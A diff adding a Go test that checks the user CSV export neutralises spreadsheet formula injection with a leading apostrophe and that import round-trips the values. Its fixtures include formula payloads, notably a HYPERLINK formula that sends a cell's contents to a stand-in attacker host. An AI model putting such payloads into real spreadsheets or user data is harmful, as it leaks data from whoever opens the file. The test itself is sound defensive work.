@@ -1,9 +1,12 @@
 package domain_test
 
 import (
+	"context"
 	"fmt"
 	"strings"
 	"testing"
+
+	"github.com/jmoiron/sqlx"
 
 	"github.com/skiffhq/skiff/tenant"
 	"github.com/skiffhq/skiff/tenant/outbox"
@@ -287,5 +290,63 @@ func TestImportUsersCustomLogins(t *testing.T) {
 	out, err := f.svc.People.UsersCSV(f.ownerCtx, f.account.ID)
 	if err != nil || !strings.Contains(out, "\nann@acme.test,Ann,USER,Pro,true,ann.backup\n") {
 		t.Fatalf("export = %q, %v", out, err)
+	}
+}
+
+// A name or email a spreadsheet would run as a formula (a user chooses
+// their own name) is exported with a leading apostrophe, which spreadsheets
+// show as text, and the import takes the apostrophe off again, so the file
+// still round-trips.
+func TestUsersCSVEscapesFormulas(t *testing.T) {
+	f := newModuleFixture(t)
+	for _, in := range []people.CreateUserInput{
+		{Email: "eve@acme.test", Name: `=HYPERLINK("http://evil.example/?"&A1,"Click")`},
+		{Email: "=cmd@acme.test", Name: "@SUM(A1:A9)"},
+		{Email: "+plus@acme.test", Name: "+1"},
+		{Email: "minus@acme.test", Name: "-1"},
+	} {
+		if _, err := f.svc.People.CreateUser(f.ownerCtx, in); err != nil {
+			t.Fatal(err)
+		}
+	}
+	out, err := f.svc.People.UsersCSV(f.ownerCtx, f.account.ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, want := range []string{
+		"\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",", // quoted for the comma
+		"\n'=cmd@acme.test,'@SUM(A1:A9),", "\n'+plus@acme.test,'+1,", "\nminus@acme.test,'-1,",
+	} {
+		if !strings.Contains(strings.Replace(out, "eve@acme.test,", "", 1), want) {
+			t.Errorf("export has no %q:\n%s", want, out)
+		}
+	}
+	other, otherOwner := f.newAccount("Beta", "bea@beta.test")
+	moved := strings.ReplaceAll(out, "@acme.test", "@beta.test")
+	if res, err := f.svc.People.ImportUsers(f.as(otherOwner), moved); err != nil || len(res.Problems) != 0 {
+		t.Fatalf("import into Beta: %v %+v", err, res)
+	}
+	back, err := f.svc.People.UsersCSV(f.as(otherOwner), other.ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := strings.Replace(back, "bea@beta.test,Owner of Beta,OWNER,Pro,false,\n", "", 1); got != moved {
+		t.Fatalf("round trip:\n%s\nwant (plus Beta's owner):\n%s", back, moved)
+	}
+	var rows []string
+	err = f.svc.DB.InAccount(context.Background(), other.ID, func(tx *sqlx.Tx) error {
+		return tx.Select(&rows, `SELECT email || ' ' || name FROM users WHERE account_id = $1`, other.ID)
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	names := map[string]bool{}
+	for _, r := range rows {
+		names[r] = true
+	}
+	for _, want := range []string{`eve@beta.test =HYPERLINK("http://evil.example/?"&A1,"Click")`, "=cmd@beta.test @SUM(A1:A9)", "+plus@beta.test +1", "minus@beta.test -1"} {
+		if !names[want] {
+			t.Errorf("imported users %v: no %q", names, want)
+		}
 	}
 }
